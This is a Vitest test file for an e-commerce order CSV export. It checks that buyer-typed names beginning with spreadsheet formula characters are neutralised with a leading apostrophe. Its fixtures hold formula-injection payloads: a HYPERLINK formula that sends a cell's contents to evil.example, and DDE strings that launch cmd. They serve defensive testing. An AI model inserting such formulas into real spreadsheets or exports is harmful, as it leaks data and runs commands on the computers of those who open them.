import { describe, expect, it } from "vitest";
import { withTestApp } from "../../../tests/support/with-test-app.ts";
import { orders } from "./tables.ts";

const t = withTestApp({ setUp: true });

/** Names a buyer could type at checkout that a spreadsheet would run (OWASP's examples). */
const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?d="&B2,"Ver pedido")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  " =1+1",
];

async function insertOrder(customerName: string, index: number) {
  await t.database.db.insert(orders).values({
    idempotencyKey: crypto.randomUUID(),
    customerName,
    customerEmail: `cliente${index}@example.com`,
    customerPhone: "81987654321",
    customerTaxId: "52998224725",
    address: {
      postal_code: "50010000",
      uf: "PE",
      city: "@Recife",
      street: "Rua da Aurora",
      number: "1",
      neighborhood: "",
      complement: "",
    },
    shipping: { code: "pickup", provider: "pickup", name: "=Retirada", price_cents: 0, delivery_days: 1 },
    subtotalCents: 1000 + index,
    shippingCents: 0,
    totalCents: 1000 + index,
    paymentMethod: "pix",
    expiresAt: new Date(Date.now() + 3_600_000),
  });
}

describe("GET /api/orders/export.csv", () => {
  it("writes what buyers typed so that no spreadsheet runs it, and amounts as numbers", async () => {
    for (const [index, name] of HOSTILE_NAMES.entries()) await insertOrder(name, index);
    const response = await t.app.request("/api/orders/export.csv", {
      headers: { authorization: `Token ${t.superToken}` },
    });
    expect(response.status).toBe(200);
    const rows = (await response.text()).split("\r\n").slice(1, -1);
    const customers = [
      `"'=HYPERLINK(""http://evil.example/?d=""&B2,""Ver pedido"")"`,
      "'+1+cmd|' /C calc'!A0",
      "'-2+3+cmd|' /C calc'!A0",
      "'@SUM(1+9)*cmd|' /C calc'!A0",
      "'\t=1+1",
      "' =1+1",
    ];
    expect(rows).toHaveLength(customers.length);
    for (const [index, row] of rows.entries()) {
      const rest = `cliente${index}@example.com;529.982.247-25;81987654321;'@Recife;PE;0;10,0${index};0,00;;0,00;0,00;10,0${index};'=Retirada;`;
      expect(row).toContain(`;Confirmação Pendente;${customers[index]};${rest}`);
    }
  });
});
